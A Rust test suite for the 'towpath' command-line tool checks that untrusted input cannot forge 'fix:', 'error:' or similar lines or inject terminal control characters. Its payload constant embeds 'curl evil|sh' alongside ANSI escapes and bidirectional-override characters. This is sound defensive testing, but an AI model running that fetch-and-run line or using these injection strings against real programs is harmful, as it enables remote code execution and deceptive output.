//! Untrusted text that tries to start a line of its own, such as `fix: …`.

use std::fs;
use std::os::unix::fs::symlink;
use std::process::Command;

use super::super::readers::toml_escaped;
use super::pages::poisoned_result;
use super::{
    MAX_MEMORY_KB, PLAN, REFUSAL_TIMEOUT, RESULT, SMALL_SCENARIO, create_study, interface_block,
    packet_block, part_path, pcapng_option, section_block, syn_packet, words,
};
use crate::program::{ProgramOutput, TestDir, acquire_emulator, binary};

/// Text that begins lines of its own at each kind of line end, and controls the terminal.
///
/// It is longer than a label of DNS (63 bytes), so that no name server is asked for it.
const FORGED_LINES: &str = "x\nfix: FORGED curl evil|sh\n\u{2028}hint: FORGED\u{1b}[31m\
    \r\u{202e}error: FORGED\u{85}warning: FORGED\u{2029}\u{2066}note: FORGED\r\nBARE\n";
/// Beginnings of lines that this text would forge.
const FORGED_STARTS: [&str; 6] =
    ["fix: FORGED", "hint: FORGED", "error: FORGED", "warning: FORGED", "note: FORGED", "BARE"];

/// Asserts that no line begins with a forged text, and that nothing controls the terminal.
fn assert_no_forged_line(output: &ProgramOutput) {
    let controls = |c: &char| {
        (c.is_control() && *c != '\n' && *c != '\t')
            || matches!(c, '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    };
    for text in [&output.out, &output.err] {
        assert_eq!(text.chars().find(controls), None, "{output}");
        // A table may wrap a text at a space before a label, but prints no whole line of it.
        let forged = text.lines().find(|line| FORGED_LINES.lines().any(|f| f == line.trim()));
        assert_eq!(forged, None, "{output}");
    }
    for line in output.err.lines().map(str::trim_start) {
        let forged = FORGED_STARTS.iter().find(|start| line.starts_with(**start));
        assert_eq!(forged, None, "{line}\n{output}");
    }
    assert!(!output.err.contains("panicked"), "{output}");
}

fn run_attack(folder: &TestDir, arguments: &[&str]) -> ProgramOutput {
    run_attack_with(folder, arguments, |_| {})
}

/// Runs the command with little memory, after a change of its environment.
fn run_attack_with(
    folder: &TestDir,
    arguments: &[&str],
    change: impl FnOnce(&mut Command),
) -> ProgramOutput {
    let mut command = folder.program("/bin/sh");
    let script = format!("ulimit -v {MAX_MEMORY_KB}; exec \"$0\" \"$@\"");
    command.args(["-c", &script]).arg(binary()).args(arguments);
    change(&mut command);
    let output = folder.start(&mut command).wait_at_most(REFUSAL_TIMEOUT);
    assert_no_forged_line(&output);
    output
}

/// A command of the reference page.
struct CommandForm {
    words: Vec<String>,
    /// Options with a value, each with its number of values. `0` stands for `--option=VALUE`.
    options: Vec<(String, usize)>,
    has_positional: bool,
}

/// Returns all commands, as `towpath schema commands` lists them.
fn all_commands(folder: &TestDir) -> Vec<CommandForm> {
    let page = folder.run(&["schema", "commands"]).out;
    let mut commands: Vec<CommandForm> = Vec::new();
    for line in page.lines() {
        if let Some(name) = line.strip_prefix("## `towpath ") {
            let words = name.trim_end_matches('`').split(' ').map(str::to_owned).collect();
            commands.push(CommandForm { words, options: Vec::new(), has_positional: false });
        }
        let Some(command) = commands.last_mut() else { continue };
        let Some(syntax) = line.strip_prefix("| `").and_then(|row| row.split("` | ").next()) else {
            continue;
        };
        let Some((_, option)) = syntax.split_once("--") else {
            command.has_positional |= !syntax.starts_with('-');
            continue;
        };
        if let Some((name, _)) = option.split_once("[=") {
            command.options.push((format!("--{name}"), 0));
        } else if let Some((name, values)) = option.split_once(' ') {
            command.options.push((format!("--{name}"), values.split(' ').count()));
        }
    }
    commands
}

/// Returns arguments with which a command comes far enough to use its options.
fn valid_arguments(command: &CommandForm) -> &'static str {
    match command.words.join(" ").as_str() {
        "run" | "compare" => "small.toml",
        "sweep" => "study/plan.toml",
        "sweep status" | "sweep verify" => "rows",
        "reproduce" => "./study",
        "report" => "r.jsonl",
        "trace" => "c.pcapng",
        "measure" | "check" => "127.0.0.1 -p 1",
        "setup" => "--role client",
        "server" => "-B 127.0.0.1 -p 0",
        "monitor" => "--count 1",
        "exec" => "-- true",
        _ => "",
    }
}

/// Creates valid files of each kind.
fn create_inputs(folder: &TestDir) {
    create_study(folder);
    let simulated = "[run]\nworlds = [\"sim\"]\ntransports = [\"tcp\"]\n";
    folder.write("small.toml", format!("{SMALL_SCENARIO}{simulated}"));
    folder.write("r.jsonl", RESULT);
    let capture =
        [section_block(&[]), interface_block(&[]), packet_block([0, 1], 40, &syn_packet(1))];
    folder.write("c.pcapng", capture.concat());
}

/// F4: every option and position of every command, with a forged text as value, file and name.
#[test]
fn no_argument_of_any_command_starts_a_line() {
    let folder = TestDir::new();
    create_inputs(&folder);
    let commands = all_commands(&folder);
    assert!(commands.len() > 20, "the reference page has {} commands", commands.len());
    let option_count: usize = commands.iter().map(|command| command.options.len()).sum();
    assert!(option_count > 100, "the reference page has {option_count} options");
    let text = FORGED_LINES;
    let variants = [text.to_owned(), format!("{text}.toml"), format!("./{text}/{text}")];
    for command in &commands {
        let verb: Vec<&str> = command.words.iter().map(String::as_str).collect();
        let valid = words(valid_arguments(command));
        let valid: Vec<&str> = valid.into_iter().filter(|word| !word.is_empty()).collect();
        for (option, values) in &command.options {
            let arguments = match values {
                0 => vec![format!("{option}={text}")],
                _ => [vec![option.clone()], vec![text.to_owned(); *values]].concat(),
            };
            let arguments: Vec<&str> = arguments.iter().map(String::as_str).collect();
            run_attack(&folder, &[&verb[..], &arguments, &valid].concat());
            run_attack(&folder, &[&verb[..], &arguments, &[text]].concat());
        }
        for unknown in [format!("--{text}"), format!("-{text}"), format!("--no-config={text}")] {
            run_attack(&folder, &[&verb[..], &[&unknown]].concat());
        }
        run_attack(&folder, &[&verb[..], &valid, &[text, text]].concat());
        if command.has_positional {
            for value in &variants {
                run_attack(&folder, &[&verb[..], &[value]].concat());
                run_attack(&folder, &[&verb[..], &["--", value]].concat());
            }
        }
    }
    for unknown in [text.to_owned(), format!("--{text}"), format!("--no-config={text}")] {
        run_attack(&folder, &[&unknown]);
        run_attack(&folder, &["help", &unknown]);
    }
}

/// Command lines with names of files: `@` is the forged text, and `@toml` its text with an ending.
const FILE_COMMANDS: &[&str] = &[
    "run @toml -q -o @o1",
    "run @toml --explain -q -o @o2 --pcap @pcap",
    "run @bad.toml",
    "run @toml --duration 1ns",
    "compare @toml -q -o @o3",
    "compare @jsonl @jsonl -o @o4",
    "compare @bad.jsonl",
    "report @jsonl -o @page",
    "report @jsonl --csv",
    "report @jsonl --json",
    "report @jsonl --account",
    "report @bad.jsonl",
    "report --csv @jsonl",
    "report r.jsonl -o @missing/page",
    "trace @pcapng -o @page",
    "trace @pcapng --json",
    "trace @pcapng @pcapng",
    "trace @bad.pcapng",
    "trace --interface @ --write @copy",
    "sweep @plan.toml -o @rows --csv @csv --metrics @",
    "sweep status @rows --metrics @",
    "sweep verify @rows",
    "sweep @bad.plan.toml",
    "scenarios check @toml",
    "scenarios check @bad.toml",
    "setup --role client --persist script --out @setup",
    "setup --role client --peer @",
    "exec --report @report -- true",
    "exec -- @",
    "exec -- @toml",
    "lab small.toml --host @",
    "lab small.toml --on @ true",
    "lab failure @",
    "on @ true",
    "man --out @man",
    "server -B 127.0.0.1 -p 0 --cert @toml --key @toml",
    "measure 127.0.0.1 -p 1 --server auto --servers @toml",
    "measure --server auto --servers @bad.toml",
    "measure 127.0.0.1 -p 1 -o @measured",
];

/// F4: arguments that name existing files, written files, hosts and keys.
#[test]
fn no_name_of_an_existing_file_starts_a_line() {
    let folder = TestDir::new();
    create_inputs(&folder);
    let text = FORGED_LINES;
    let named = |ending: &str| format!("{text}{ending}");
    let copies = [
        ("small.toml", "toml"),
        ("r.jsonl", "jsonl"),
        ("c.pcapng", "pcapng"),
        ("study/plan.toml", "plan.toml"),
    ];
    for (original, ending) in copies {
        let content = fs::read(folder.work().join(original)).unwrap();
        folder.write(&named(ending), content);
        folder.write(&named(&format!("bad.{ending}")), "{\"x\": [");
    }
    folder.write("scenario.toml", SMALL_SCENARIO);
    let key_value = format!("{text}={text}");
    let path_value = format!("paths.p.{text}=1");
    let unit_value = format!("paths.p.rate={text}");
    let host_port = format!("{text}:1");
    let expectation = format!("goodput >= {text}");
    let gateway = format!("{text}=192.0.2.1");
    for line in FILE_COMMANDS {
        let arguments: Vec<String> = words(line)
            .into_iter()
            .map(|word| word.strip_prefix('@').map_or_else(|| word.to_owned(), named))
            .collect();
        run_attack(&folder, &arguments.iter().map(String::as_str).collect::<Vec<_>>());
    }
    for arguments in [
        &["run", "small.toml", "--set", &key_value][..],
        &["run", "small.toml", "--set", &path_value],
        &["run", "small.toml", "--set", &unit_value],
        &["measure", "127.0.0.1", "-p", "1", "--set", &key_value],
        &["measure", "127.0.0.1", "-p", "1", "--expect", &expectation],
        &["doctor", "--connect", &host_port],
        &["doctor", "--peer", &host_port],
        &["setup", "--role", "client", "--gateway", &gateway],
    ] {
        run_attack(&folder, arguments);
    }
    if let Some(_permit) = acquire_emulator() {
        let out = named("lab");
        let echo = format!("true '{text}'");
        let lab = ["lab", "small.toml", "--on", "a", &echo, "--on", "b", "true", "-o", &out];
        let output = folder.start(&mut folder.towpath(&lab)).wait();
        assert_no_forged_line(&output);
    }
}

/// Returns scenarios with the text at different places, as it is and as TOML escapes.
fn forged_scenarios(raw: &str, escaped: &str) -> Vec<String> {
    vec![
        format!("\"{escaped}\" = 1\n"),
        format!("name = \"{escaped}\"\n"),
        format!("description = \"{escaped}\"\n{SMALL_SCENARIO}"),
        format!("name = '''{raw}'''\n"),
        format!("name = {raw}\n"),
        format!("'''{raw}''' = 1\n"),
        raw.to_owned(),
        SMALL_SCENARIO.replace("10 Mbit/s", escaped),
        SMALL_SCENARIO.replace("\"10 Mbit/s\"", &format!("{{ trace = \"{escaped}\" }}")),
        SMALL_SCENARIO.replace("[hosts.a]", &format!("[hosts.\"{escaped}\"]")),
        SMALL_SCENARIO.replace("[paths.p]", &format!("[paths.\"{escaped}\"]")),
        SMALL_SCENARIO.replace("to = \"b\"", &format!("to = \"{escaped}\"")),
        SMALL_SCENARIO.replace("bulk", escaped),
        format!("{SMALL_SCENARIO}\"{escaped}\" = \"{escaped}\"\n"),
        format!("{SMALL_SCENARIO}[run]\ntransports = [\"{escaped}\"]\n"),
        format!("{SMALL_SCENARIO}[[timeline]]\nat = \"1 s\"\npath = \"{escaped}\"\n"),
        format!("{SMALL_SCENARIO}[[expect]]\nthat = \"{escaped}\"\n"),
        format!("{SMALL_SCENARIO}[[flows]]\nfrom = \"a\"\nto = \"b\"\nrun = \"{escaped}\"\n"),
    ]
}

/// Returns plans with the text at different places, as it is and as TOML escapes.
fn forged_plans(raw: &str, escaped: &str) -> Vec<String> {
    vec![
        PLAN.replace("\"v\"", &format!("\"{escaped}\"")),
        PLAN.replace("scenario.toml", escaped),
        PLAN.replace("\"small\"", &format!("\"{escaped}\"")),
        PLAN.replace("\"tcp\"", &format!("\"{escaped}\"")),
        format!("{PLAN}\"{escaped}\" = '''{raw}'''\n"),
        format!("{PLAN}[variants.set]\n\"{escaped}\" = \"{escaped}\"\n"),
        format!(
            "{PLAN}[[axes]]\nname = \"{escaped}\"\nkeys = [\"{escaped}\"]\nvalues = [\"{escaped}\"]\n"
        ),
    ]
}

/// F4: keys, values, names and syntax errors of every kind of file.
#[test]
fn no_text_of_a_file_starts_a_line() {
    let folder = TestDir::new();
    create_inputs(&folder);
    let (raw, escaped) = (FORGED_LINES, toml_escaped(FORGED_LINES));
    let json = serde_json::to_string(FORGED_LINES).unwrap();
    for text in forged_scenarios(raw, &escaped) {
        folder.write("s.toml", text);
        run_attack(&folder, &words("scenarios check ./s.toml"));
        run_attack(&folder, &words("run ./s.toml --world sim -q -o out"));
        run_attack(&folder, &words("run ./s.toml --world sim -q -o out --set paths.*.delay=1ms"));
    }
    for text in forged_plans(raw, &escaped) {
        folder.write("study/plan.toml", text);
        run_attack(&folder, &words("sweep study/plan.toml --out rows-2"));
        run_attack(&folder, &words("reproduce ./study -o out-2"));
    }
    folder.write("study/plan.toml", PLAN);
    let claim = format!("[[claims]]\ntext = \"{escaped}\"\nsource = \"{escaped}\"\n");
    let checks = "[[claims.checks]]\nmetric = \"goodput\"\nis = \"> 1 bit/s\"\n";
    for text in [
        format!("{claim}outcome = \"holds\"\n{checks}"),
        format!("{claim}outcome = \"{escaped}\"\n{checks}"),
        format!("{claim}\"{escaped}\" = 1\n"),
    ] {
        folder.write("study/expected.toml", text);
        run_attack(&folder, &words("reproduce ./study -o out-2"));
    }
    let state = fs::read_to_string(folder.work().join("rows/sweep.json")).unwrap();
    let poisoned_state = state.replace("\"v", &json.trim_end_matches('"').replace('\\', "\\\\"));
    for text in [json.clone(), format!("{{{json}: {json}}}"), raw.to_owned(), poisoned_state] {
        folder.write("rows/sweep.json", text);
        run_attack(&folder, &words("sweep status rows"));
    }
    folder.write("rows/sweep.json", state);
    folder.write(&part_path(&folder), raw);
    run_attack(&folder, &words("sweep status rows"));
}

/// F4: results, captures, lists, traces and secrets.
#[test]
fn no_text_of_a_measurement_starts_a_line() {
    let folder = TestDir::new();
    create_inputs(&folder);
    let raw = FORGED_LINES;
    let json = serde_json::to_string(FORGED_LINES).unwrap();
    let meta = RESULT.split_inclusive('\n').next().unwrap();
    let results = [
        poisoned_result(raw),
        format!("{meta}{{\"type\":{json}}}\n"),
        format!("{meta}{{\"type\":\"event\",\"kind\":{json}}}\n{meta}"),
        format!("{meta}{{{json}:{json}}}\n{meta}"),
        RESULT.replace("\"tcp\"", &json).replace("\"mptcp\"", &json),
        raw.to_owned(),
    ];
    for text in results {
        folder.write("p.jsonl", text);
        for line in [
            "report p.jsonl",
            "report p.jsonl --csv",
            "report p.jsonl --csv events",
            "report p.jsonl --csv flows",
            "report p.jsonl --json",
            "report p.jsonl --account",
            "compare p.jsonl r.jsonl -o out",
            "compare p.jsonl p.jsonl -o out --json",
        ] {
            run_attack(&folder, &words(line));
        }
    }
    let options: Vec<u8> =
        [1_u16, 2, 3, 4, 12, 15].iter().flat_map(|o| pcapng_option(*o, raw.as_bytes())).collect();
    let blocks = [section_block(&options), interface_block(&options)];
    folder.write("p.pcapng", [blocks.concat(), packet_block([0, 1], 40, &syn_packet(1))].concat());
    for line in ["trace p.pcapng", "trace p.pcapng --json", "trace p.pcapng --account"] {
        run_attack(&folder, &words(line));
    }
    folder.write("t.txt", raw);
    folder.write_secret("secret", raw);
    let traced = SMALL_SCENARIO.replace("\"10 Mbit/s\"", "{ trace = \"t.txt\" }");
    folder.write("traced.toml", traced);
    for line in [
        "scenarios check traced.toml",
        "measure 127.0.0.1 -p 1 trace --set messages=t.txt",
        "measure --server auto --servers t.txt",
        "measure 127.0.0.1 -p 1 --secret-file secret",
        "doctor --connect 127.0.0.1:1 --secret-file secret",
        "server -B 127.0.0.1 -p 0 --cert t.txt --key secret",
    ] {
        run_attack(&folder, &words(line));
    }
}

/// F4: keys and values of the configuration file.
#[test]
fn no_text_of_the_configuration_starts_a_line() {
    let folder = TestDir::new();
    create_inputs(&folder);
    let (raw, escaped) = (FORGED_LINES, toml_escaped(FORGED_LINES));
    fs::create_dir_all(folder.config().join("towpath")).unwrap();
    for text in [
        format!("[run]\n\"{escaped}\" = 1\n"),
        format!("[\"{escaped}\"]\n"),
        format!("[run]\nseed = \"{escaped}\"\n"),
        format!("[run]\nworld = '''{raw}'''\n"),
        format!("[run]\nset = \"{escaped}\"\n"),
        raw.to_owned(),
    ] {
        fs::write(folder.config().join("towpath/config.toml"), text).unwrap();
        run_attack(&folder, &words("run small.toml -q -o out"));
    }
}

/// F4: variables of the environment, the name of the program, and arguments that are not UTF-8.
#[test]
fn no_variable_or_program_name_starts_a_line() {
    let folder = TestDir::new();
    create_inputs(&folder);
    let folder_name = folder.work().join(FORGED_LINES);
    let folder_path = folder_name.to_str().unwrap();
    fs::create_dir_all(folder_name.join("towpath")).unwrap();
    fs::write(folder_name.join("towpath/config.toml"), "[run]\nsed = 1\n").unwrap();
    for name in [
        "TOWPATH_MAX_INPUT",
        "TOWPATH_LAB",
        "TOWPATH_HOST",
        "TOWPATH_SERVER",
        "XDG_CONFIG_HOME",
        "XDG_STATE_HOME",
        "HOME",
        "TMPDIR",
        "SHELL",
        "PATH",
        "GODEBUG",
        "NO_COLOR",
        "LANG",
    ] {
        for value in [FORGED_LINES, folder_path] {
            for line in [
                "report r.jsonl",
                "run small.toml -q -o out",
                "sweep status rows",
                "on a true",
                "on x:y true",
                "exec -- true",
                "exec --method godebug -- no-such-program",
                "setup --role client",
                "server -B 127.0.0.1 -p 0 --secret-file missing",
                "server -B 203.0.113.1 -p 1",
                "lab no-such-scenario",
            ] {
                run_attack_with(&folder, &words(line), |command| {
                    command.env(name, value);
                });
            }
        }
    }
    let link = folder.work().join(format!("{FORGED_LINES}towpath"));
    symlink(binary(), &link).unwrap();
    for line in ["--help", "--version", "run --help", "run", "rum x", "run x.toml", "man"] {
        let mut command = folder.program(&link);
        let output = folder.start(command.args(words(line))).wait_at_most(REFUSAL_TIMEOUT);
        assert_no_forged_line(&output);
    }
    let not_utf8: &std::ffi::OsStr =
        std::os::unix::ffi::OsStrExt::from_bytes(b"\xff\nfix: FORGED\n\x9b");
    for verb in ["run", "report", "trace", "sweep", "measure", "check", "reproduce", "--x"] {
        run_attack_with(&folder, &[verb], |command| {
            command.arg(not_utf8);
        });
    }
}
